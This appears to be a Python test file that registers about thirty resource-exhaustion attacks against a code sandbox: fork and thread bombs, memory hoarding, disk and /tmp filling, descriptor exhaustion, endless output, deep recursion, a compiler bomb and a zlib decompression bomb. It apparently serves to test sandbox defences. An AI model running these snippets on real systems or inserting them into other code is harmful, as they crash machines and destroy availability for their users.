"""Attacks on the machine: processes, threads, memory, disk, output, recursion. One answer each; the others are honest."""

from attacks.making import beside, early

FAMILY = "bombs"

beside("a_fork_bomb", FAMILY, "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass", before="import os")
beside("a_fork_bomb_of_sleepers", FAMILY, """
    for _ in range(100_000):
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(600)
                os._exit(0)
        except OSError:
            break
    return None
""", before="import os, time")
beside("a_bomb_of_shells", FAMILY, "import subprocess\nfor _ in range(20_000):\n    subprocess.Popen(['sleep', '600'])\nreturn None")
beside("a_thread_bomb", FAMILY, """
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
""", before="import threading, time")
beside("a_bomb_of_torch_threads", FAMILY, "torch.set_num_threads(5000)\nreturn sum((torch.randn(2000, 2000) @ torch.randn(2000, 2000)).sum() for _ in range(10_000))")
beside("memory_in_a_list", FAMILY, "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 24))")
beside("memory_in_a_tensor", FAMILY, "return torch.ones(1 << 40)")
beside("memory_in_many_tensors", FAMILY, "hoard = []\nwhile True:\n    hoard.append(torch.ones(1 << 22))")
beside("memory_that_is_mapped", FAMILY, """
    import mmap
    hoard = []
    while True:
        hoard.append(mmap.mmap(-1, 1 << 26))  # shared pages: a cap on data does not count them
        hoard[-1].write(bytes(1 << 26))
""")
beside("memory_in_children", FAMILY, """
    for _ in range(64):
        if os.fork() == 0:
            hoard = []
            while True:
                hoard.append(bytearray(os.urandom(1 << 22)))
    os.wait()
""", before="import os")
beside("memory_while_an_error_is_caught", FAMILY, """
    hoard = []
    while True:
        try:
            while True:
                hoard.append(bytearray(1 << 20))
        except MemoryError:
            pass
""")
beside("shared_memory_filled", FAMILY, "with open('/dev/shm/attack_was_here', 'wb') as file:\n    while True:\n        file.write(bytes(1 << 24))")
beside("a_disk_filled", FAMILY, """
    for number in range(10_000):
        for folder in (".", "/tmp", "/var/tmp", os.path.expanduser("~")):
            try:
                with open(f"{folder}/attack_was_here_{number}", "wb") as file:
                    for _ in range(64):
                        file.write(bytes(1 << 22))
            except OSError:
                pass
    return None
""", before="import os")
beside("a_file_of_ten_terabytes_with_a_hole", FAMILY, "with open('attack_was_here', 'wb') as file:\n    file.truncate(10 << 40)\n    file.seek((10 << 40) - 1)\n    file.write(b'x')\nreturn None")
beside("a_million_files", FAMILY, "for number in range(1_000_000):\n    open(f'/tmp/attack_was_here_{number}', 'w').close()\nreturn None")
beside("folders_ten_thousand_deep", FAMILY, "for _ in range(10_000):\n    os.mkdir('d')\n    os.chdir('d')\nreturn None", before="import os")
beside("descriptors_used_up", FAMILY, "hoard = []\nwhile True:\n    hoard.append(os.dup(0))\n    hoard += os.pipe()", before="import os")
beside("output_in_a_call_without_end", FAMILY, "while True:\n    print('x' * 1000)")
beside("output_on_stderr_without_end", FAMILY, "import os\nwhile True:\n    os.write(2, b'x' * 100_000)")
beside("one_print_of_a_gigabyte", FAMILY, "print('x' * (1 << 30))\nreturn None")
early("output_of_a_cell_without_end", FAMILY, "import itertools\nfor n in itertools.count():\n    print('x' * 1000, n)", endangers=True)
early("a_hundred_thousand_displays", FAMILY, "from IPython.display import HTML, display\nfor n in range(100_000):\n    display(HTML('<b>x</b>' * 100))", endangers=True)
early("a_cell_that_takes_the_memory", FAMILY, "hoard = []\nwhile True:\n    hoard.append(bytearray(1 << 24))", endangers=True)
early("a_cell_that_forks", FAMILY, "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass", endangers=True)
beside("recursion_without_end", FAMILY, "return zloss(logits) + 1")
beside("recursion_through_the_stack_of_c", FAMILY, "import sys, functools\nsys.setrecursionlimit(1 << 30)\ndef down(x):\n    return functools.reduce(lambda a, b: down(b), [x, x])\nreturn down(1)")
beside("recursion_in_a_repr", FAMILY, "import sys\nsys.setrecursionlimit(1 << 30)\ndeep = []\nfor _ in range(1_000_000):\n    deep = [deep]\nreturn repr(deep)")
beside("recursion_on_a_thread_with_a_large_stack", FAMILY, """
    import sys, threading
    sys.setrecursionlimit(1 << 30)
    threading.stack_size(1 << 29)
    def down(n):
        return down(n + 1)
    thread = threading.Thread(target=down, args=(0,))
    thread.start()
    thread.join()
""")
beside("a_compiler_bomb", FAMILY, "return eval(compile('(' * 90 + '1' + ')' * 90 + '+1' * 5_000_000, 'x', 'eval'))")
beside("an_archive_bomb", FAMILY, "import zlib\nsmall = zlib.compress(bytes(1 << 30))\nreturn [zlib.decompress(small) for _ in range(1000)]")
